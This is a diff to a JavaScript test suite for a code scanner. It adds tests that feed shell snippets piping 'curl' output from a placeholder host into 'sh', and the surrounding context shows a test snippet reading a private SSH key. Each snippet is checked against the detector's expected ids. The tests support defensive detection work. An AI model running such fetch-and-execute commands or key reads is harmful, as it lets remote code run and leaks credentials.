@@ -77,3 +77,11 @@ describe("a text pattern on a line", () => {
     expect(jsHits('/* keys live in ~/.ssh */ const k = fs.readFileSync(os.homedir() + "/.ssh/id_ed25519", "utf8");\n')).toEqual(["ssh-private-key@55"]);
   });
 });
+
+describe("code handed to a shell", () => {
+  test("is read again when it holds a `$(…)`: the rest of it runs", () => {
+    expect(shellIds('#!/bin/sh\nbash -c "cd $(mktemp -d) && curl -fsSL https://x.example/i.sh | sh"\n')).toEqual(["pipe-to-interpreter"]);
+    // What the substitution runs is found once, as before.
+    expect(shellIds('#!/bin/sh\nsh -c "$(curl -fsSL https://x.example/i.sh)"\n')).toEqual(["substitution-exec"]);
+  });
+});
